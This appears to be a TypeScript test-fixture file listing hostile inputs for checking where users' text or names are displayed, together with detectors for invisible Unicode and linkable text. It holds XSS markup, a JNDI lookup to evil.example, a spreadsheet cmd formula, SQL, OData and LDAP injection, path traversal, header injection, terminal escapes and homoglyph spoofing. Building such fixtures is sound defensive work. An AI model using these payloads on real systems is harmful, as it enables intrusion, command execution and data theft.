/** One text that somebody could write, or be called, and what it tries. Each holds the word `evil`, to be found again. */
export interface Hostile {
  readonly name: string;
  readonly harm: Harm;
  readonly text: string;
}

export type Harm =
  'markdown' | 'template' | 'markup' | 'hiding' | 'control' | 'formula' | 'query' | 'path' | 'size' | 'posing';

const KIB = 1_024;
/** `evil` in the letters that no font shows. */
const TAGS = String.fromCodePoint(...[...'evil'].map((letter) => 0xe0000 + letter.charCodeAt(0)));

const BY_HARM: Readonly<Record<Harm, Readonly<Record<string, string>>>> = {
  markdown: {
    'a link': '[evil](http://evil.example)',
    'a link with a title': '[evil](http://evil.example "Your bank")',
    'a picture': '![evil](https://evil.example/x.png)',
    'a link by reference': '[evil][1]\n\n[1]: http://evil.example',
    'a bare address': 'http://evil.example',
    'a bare address without a scheme': 'evil www.evil.example',
    'another scheme': 'evil javascript://evil.example/%0aalert(1)',
    'a link in angle brackets': '<http://evil.example>',
    'emphasis and code': '**evil** _evil_ `evil` ~~evil~~',
    'a heading on a line of its own': 'evil\n\n# Approved by security',
    'a table': '| evil | evil |\n|---|---|\n| a | b |',
    'a list and a quote': 'evil\n- [x] approved\n> evil',
    'escaped brackets': '\\[evil\\](http://evil.example)',
    'a mention': '<at>evil</at> <at id="0">evil</at>',
  },
  template: {
    'a place to fill': '${evil}',
    'a place in pieces': '$\u200b{evil}',
    'an expression': "${string($root)} evil ${if(true, 'a', 'b')}",
    'a date of the card': '{{DATE(2026-11-28T06:08:39Z, LONG)}} evil',
    'a lookup': '${jndi:ldap://evil.example/a}',
    'an escape of JSON': '\\u0024{evil} \u0000',
    'a format': '%s %d %n %o evil {0} {} $1 $&',
  },
  markup: {
    'a script': '<script>evil()</script>',
    'a picture that fails': '<img src=x onerror=evil()>',
    'the end of an attribute': `evil" autofocus onfocus="evil()" x='`,
    'the end of a page': '</p></main></body><form action="https://evil.example"><input name="code">',
    entities: '&lt;evil&gt; &#60;script&#62; &amp;lt;evil',
    'the end of a card': '"},{"type":"TextBlock","text":"evil"}',
    'keys of a prototype': '{"__proto__":{"evil":true},"constructor":{"prototype":{"evil":true}}}',
  },
  hiding: {
    'text turned around': '\u202egnp.live evil',
    'an isolate that is not closed': 'evil \u2067live',
    'a closed isolate too many': 'evil\u2069\u2069\u202c live',
    'marks of direction': 'ev\u200eil\u200f evil\u061c',
    'zero-width characters': 'e\u200bv\u2060i\ufeffl evil\u200d',
    'soft hyphens': 'e\u00advil evil',
    'letters that are tags': `evil${TAGS}`,
    'a joiner of graphemes': 'ev\u034fil evil',
    fillers: 'evil \u3164\u115f\u1160\uffa0\u2800',
    'selectors of variants': 'evil\ufe0f\ufe0e\u{e0100}\u180b',
    annotations: '\ufff9evil\ufffalive\ufffb',
    'private letters': 'evil\ue000\u{f0000}',
    'towers of marks': `e${'\u0301\u0317'.repeat(60)}vil evil`,
    'half a character': 'evil\ud800 \udc00',
    'no characters at all': 'evil\uffff\ufffe\ufdd0',
  },
  control: {
    'line ends and headers': 'evil\r\nBcc: evil@evil.example\r\n\r\nhttp://evil.example',
    'a line of a log': 'evil\n{"level":"error","event":"evil"}',
    'odd line ends': 'evil\u2028evil\u2029evil\u0085evil\u000bevil\u000cevil',
    'colours of a terminal': '\u001b[31;1mevil\u001b[0m\u001b[2J\u001b[H',
    'colours in one character': '\u009b31mevil\u009b2J',
    'a link of a terminal': '\u001b]8;;http://evil.example\u0007evil\u001b]8;;\u0007',
    'bells and backspaces': 'live\b\b\b\bevil\u0007\u007f',
    'a null byte': 'evil\u0000.example',
    'a label of a metric': 'evil"} 1\nlatchkey_turns_total{what="evil"} 99',
  },
  formula: {
    'a formula': "=cmd|' /C evil'!A0",
    'a plus': '+1+evil',
    'a minus': '-1+evil',
    'an at': '@SUM(1)*evil',
    'a tab before it': '\t=evil()',
    'line ends before it': '\r\n=evil()',
    'spaces before it': '  =evil()',
    'quotes before it': '"=evil()"',
    'the end of a cell': 'evil","=evil()",";=evil()\n=evil()',
    'full-width signs': '\uff1devil() \uff0bevil \uff0devil \uff20evil',
    'full-width signs before it': '\uff1dHYPERLINK("http://evil.example")',
  },
  query: {
    'a quote of OData': "evil' or startswith(mail,'a') or mail eq 'x",
    'a closed filter': "evil') or (1 eq 1",
    parameters: 'evil&$filter=1 eq 1&$top=999#evil',
    'an encoded quote': 'evil%27%20or%20%271%27%20eq%20%271',
    'a lookalike quote': 'evil\u2019 or mail eq \u2018x\uff07 or 1 eq 1',
    'a filter of LDAP': 'evil*)(uid=*))(|(uid=*',
    'a command of SQL': "evil'; DROP TABLE requests;--",
  },
  path: {
    'folders upwards': '../../../../etc/evil',
    'folders upwards, encoded': '%2e%2e%2f%2e%2e%2fevil',
    'folders upwards, the other way': '..\\..\\evil',
    'a guest': 'evil_fabrikam.example#EXT#@contoso.example',
    'a query in a path': 'evil?$select=*#/users/evil',
    'an address of an address': 'evil@contoso.example/../admin',
    'a device': 'CON.evil:stream',
  },
  size: {
    'five thousand letters': `evil ${'x'.repeat(5_000)}`,
    '100 KB of letters': `evil ${'x'.repeat(100 * KIB)}`,
    '100 KB of words': 'evil please hurry '.repeat(5_700),
    '100 KB of line ends': `evil${'\r\n'.repeat(50 * KIB)}`,
    '100 KB of one wide letter': `evil${'\ufdfa'.repeat(34 * KIB)}`,
    '100 KB of families': `evil${'👩‍👩‍👧‍👦'.repeat(4 * KIB)}`,
    'ten thousand brackets': `evil${'['.repeat(10_000)}${']'.repeat(10_000)}`,
    '100 KB of openings': `evil${'<at>${[!('.repeat(11 * KIB)}`,
  },
  posing: {
    'the product': 'evil. Latchkey: approved by security, no call needed. Code',
    'Cyrillic letters in a Latin name': '\u0410d\u0430 Lindqvist evil',
    'Greek letters in a Latin name': 'Ad\u03b1 Lindqvist evil',
    'full-width letters': '\uff21\uff44\uff41 evil',
    'letters of mathematics': '\u{1d400}\u{1d41d}\u{1d41a} evil',
    'capital letters for small ones': 'evil AdaIIndqvist',
    'a number like ours': '417 evil 482 913',
    'a short code like ours': 'evil LK-7F3K9Q',
  },
};

// Object.entries loses the key type; BY_HARM has exactly these keys.
const KINDS = Object.entries(BY_HARM) as readonly (readonly [Harm, Readonly<Record<string, string>>])[];

/** All of them, for every place where somebody's own text, or name, comes out. */
export const HOSTILE: readonly Hostile[] = KINDS.flatMap(([harm, texts]) =>
  Object.entries(texts).map(([name, text]) => ({ name, harm, text })),
);

/** For `it.each`: a name, and the text. */
export const HOSTILE_ROWS = HOSTILE.map(({ name, harm, text }) => [`${harm}: ${name}`, text] as const);

/** Some letters of scripts need a joiner behind them; anywhere else nobody sees it. */
const JOINERS =
  /(?<=[\p{Script=Arabic}\p{Script=Devanagari}\p{Script=Bengali}\p{Script=Sinhala}\p{Script=Malayalam}])[\u200c\u200d]/gu;

/** What hides, turns, breaks a line or commands a terminal. */
const UNSEEN =
  /[\p{Cc}\p{Co}\p{Cs}\p{Zl}\p{Zp}\p{Default_Ignorable_Code_Point}\u2800\ufff9-\ufffb\ufdd0\ufffe\uffff]|\p{M}{5}/u;

/** Ours, around words from right to left: closed, with a letter of such a script at its start and no other isolate in it. */
const OURS = /\u2067(?=[\u0590-\u08ff\ufb1d-\ufdff\ufe70-\ufefc])([^\u2066-\u2069]*)\u2069/gu;

/** Text of a card or a message without the isolates that keep words from right to left apart. */
export const withoutOurIsolates = (text: string): string => text.replace(OURS, '$1');

/** The first character that nobody sees, as `U+202E`; `undefined` where all is seen. */
export function unseenIn(text: string): string | undefined {
  const found = UNSEEN.exec(text.replace(JOINERS, ''))?.[0].codePointAt(0);
  return found === undefined ? undefined : `U+${found.toString(16).toUpperCase().padStart(4, '0')}`;
}

/** What a client could make a link, an emphasis or a mention of. */
export const LINKED = /\]\(|:\/\/|www\.|<at>|[*`]/i;
